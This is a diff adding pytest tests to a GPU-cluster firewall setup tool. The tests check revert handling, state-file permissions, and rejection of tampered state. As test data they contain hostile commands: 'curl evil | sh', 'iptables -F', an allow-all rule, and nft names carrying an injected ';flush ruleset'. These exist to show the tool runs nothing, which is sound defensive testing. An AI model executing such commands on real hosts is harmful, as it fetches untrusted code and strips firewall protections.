@@ -9,6 +9,7 @@ import pytest
 from doctor_fixtures import make_survey
 
 from trainfleet.cluster import load_cluster
+from trainfleet.errors import SetupError
 from trainfleet.remote import Failure, NodeResult
 from trainfleet.setup import firewall, fwapply, fwstate
 from trainfleet.setup.result import SetupResult
@@ -212,3 +213,85 @@ def test_revert_notes_rules_already_gone_and_leaves_a_reused_handle_alone(tmp_pa
     assert result.changes == [] and len(result.notes) == 2
     assert all("already gone" in note for note in result.notes)
     assert fake.nft["gpu-node-2"][11] == "tcp dport 80 accept"  # not someone else's rule
+
+
+def _applied(tmp_path, monkeypatch):
+    cluster = load_cluster(hosts="gpu-node-1,gpu-node-2")
+    fake = FakeFirewalls(["gpu-node-1", "gpu-node-2"])
+    monkeypatch.setattr(fwapply, "run_on_nodes", fake.run)
+    monkeypatch.setattr(fwstate, "run_on_nodes", fake.run)
+    chain = firewall.NftChain("inet", "filter", "input", True)
+    rules = {
+        "gpu-node-1": firewall.allow_rules("iptables", "eth0", ["10.0.0.12"]),
+        "gpu-node-2": firewall.allow_rules("nftables", "eth0", ["10.0.0.11"], chains=[chain]),
+    }
+    state_file = tmp_path / "state.json"
+    fwapply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
+    return cluster, fake, state_file
+
+
+def test_a_recorded_handle_never_matches_a_longer_one(tmp_path, monkeypatch):
+    """Handle 11 is not 112: an admin's rule (even one that says trainfleet) survives (#17)."""
+    cluster, fake, state_file = _applied(tmp_path, monkeypatch)
+    admins = fake.nft["gpu-node-2"].pop(11)
+    fake.nft["gpu-node-2"][112] = admins
+    result = SetupResult(step="firewall")
+    fwstate.revert_rules(cluster, str(state_file), result)
+    assert fake.nft["gpu-node-2"][112] == admins
+    assert any("gpu-node-2: already gone" in n for n in result.notes)
+
+
+def test_the_state_file_is_private_and_an_edited_one_runs_nothing(tmp_path, monkeypatch):
+    cluster, fake, state_file = _applied(tmp_path, monkeypatch)
+    assert state_file.stat().st_mode & 0o777 == 0o600
+    state = json.loads(state_file.read_text())
+    good = json.dumps(state)
+    ran: list = []
+    monkeypatch.setattr(fwstate, "run_on_nodes", lambda *a, **k: ran.append(a) or [])
+    for evil in (
+        ["sh", "-c", "curl evil | sh"],
+        ["iptables", "-F"],
+        ["iptables", "-D", "INPUT", "-i", "eth0", "-s", "0.0.0.0/0", "-j", "ACCEPT"],
+        ["nft", "delete", "rule", "inet", "filter;flush ruleset", "input", "handle", "11"],
+        "iptables -D INPUT",
+    ):
+        state["nodes"]["gpu-node-1"][0]["revert"] = evil
+        state_file.write_text(json.dumps(state))
+        with pytest.raises(SetupError, match="entry 1 of gpu-node-1 is not a rule") as err:
+            fwstate.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
+        assert "nothing was run" in err.value.fix and ran == []
+    for broken in ("[]", '{"nodes": [1]}', '{"nodes": {"gpu-node-1": [7]}}'):
+        state_file.write_text(broken)
+        with pytest.raises(SetupError, match="not a"):
+            fwstate.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
+    state_file.write_text(good)
+    fwstate.load_state(str(state_file))  # what --apply wrote passes
+
+
+def test_revert_without_a_state_file_says_so(tmp_path):
+    cluster = load_cluster(hosts="gpu-node-1")
+    with pytest.raises(SetupError, match="no firewall state file") as err:
+        fwstate.revert_rules(cluster, str(tmp_path / "gone.json"), SetupResult(step="firewall"))
+    assert "--state" in err.value.fix
+
+
+def test_what_a_node_reports_never_becomes_a_rule_for_any_address(tmp_path):
+    survey = make_survey(tmp_path)
+    survey.facts["gpu-node-1"]["firewall"] = {"iptables": {"rc": 0, "out": IPTABLES_DROP}}
+    for entry in survey.facts["gpu-node-3"]["interfaces"]:
+        entry["ipv4"] = ["0.0.0.0/0"]
+    rules, notes = fwapply.plan_rules(survey, ["gpu-node-1"], zones={})
+    assert [r.peer for r in rules["gpu-node-1"]] == ["10.213.207.12"]
+    assert any("gpu-node-3 reports '0.0.0.0'" in n for n in notes), notes
+    # no interface with a route: a note, never `-i None`
+    survey.facts["gpu-node-1"]["interfaces"] = []
+    survey.facts["gpu-node-1"]["route_to_master"] = {}
+    rules, notes = fwapply.plan_rules(survey, ["gpu-node-1"], zones={})
+    assert rules == {} and "no rule for it" in notes[-1]
+
+
+def test_nft_names_from_a_nodes_ruleset_are_plain_words():
+    hostile = NFT_RULESET.replace("table inet filter {", "table inet filter;flush {", 1)
+    names = [(c.family, c.table, c.chain) for c in firewall.nft_input_chains(hostile)]
+    assert ("inet", "filter;flush", "input") not in names
+    assert ("ip", "filter", "INPUT") in names
